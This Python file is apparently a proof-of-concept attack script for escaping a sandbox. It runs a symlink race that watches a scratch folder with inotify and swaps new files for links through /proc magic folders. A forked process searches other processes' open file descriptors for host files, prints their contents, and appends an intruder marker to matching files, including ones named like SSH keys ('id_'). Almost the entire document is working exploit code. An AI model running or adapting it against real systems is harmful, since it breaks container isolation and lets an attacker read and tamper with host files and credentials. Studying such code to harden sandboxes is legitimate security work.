"""Waits for files in the scratch folder, and swaps each for a link as soon as it appears.

A second process searches the descriptors of all other processes for a file of the host, reads it and writes to it.
"""
import os
import select
import struct
import sys

from attacker import NAMES, SCRATCH, climb, exchange, libc, magic_folders, pids, ready

CREATE, MOVED_TO, OPEN = 0x100, 0x80, 0x20


def exchange_what_appears():
    watcher = libc.inotify_init()
    libc.inotify_add_watch(watcher, SCRATCH.encode(), CREATE | MOVED_TO)
    choice = [f'{folder}{climb(depth)}/{NAMES[0]}' for folder in magic_folders(6) for depth in (4, 1)]
    links = []
    for number in range(64):
        link = f'{SCRATCH}/.link{number}'
        try:
            os.symlink(choice[number % len(choice)], link)
            links.append(link)
        except OSError:
            break
    ready()
    at = 0
    while True:
        select.select([watcher], [], [])
        events = os.read(watcher, 65536)
        while events:
            _, _, _, length = struct.unpack_from('iIII', events)
            name = events[16 : 16 + length].rstrip(b'\0').decode(errors='replace')
            events = events[16 + length :]
            if links and not name.startswith('.link'):
                # A link that was swapped before is a file now, so use the next one.
                exchange(links[at % len(links)], f'{SCRATCH}/{name}')
                at += 1


def search_descriptors():
    known = set()
    while True:
        for pid in pids():
            if pid == os.getpid():
                continue
            try:
                numbers = os.listdir(f'/proc/{pid}/fd')
            except OSError:
                continue
            for number in numbers:
                path = f'/proc/{pid}/fd/{number}'
                try:
                    target = os.readlink(path)
                except OSError:
                    continue
                is_ours = target.startswith(('pipe:', 'socket:', 'anon_inode:', '/dev/', '/usr/', '/lib', '/tmp/', '/home/daytona'))
                if is_ours or (pid, number, target) in known:
                    continue
                known.add((pid, number, target))
                take(path, target)


def take(path, target):
    print(f'{path} is {target}', flush=True)
    for flags, what in ((os.O_RDONLY, 'read'), (os.O_WRONLY | os.O_APPEND, 'write')):
        try:
            descriptor = os.open(path, flags | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            if what == 'read':
                print(os.pread(descriptor, 1000, 0), flush=True)
            elif NAMES[0].split('.')[0] in target or 'id_' in target:
                os.write(descriptor, b'written by an intruder\n')
        except OSError:
            pass
        finally:
            os.close(descriptor)


if os.fork() == 0:
    search_descriptors()
exchange_what_appears()
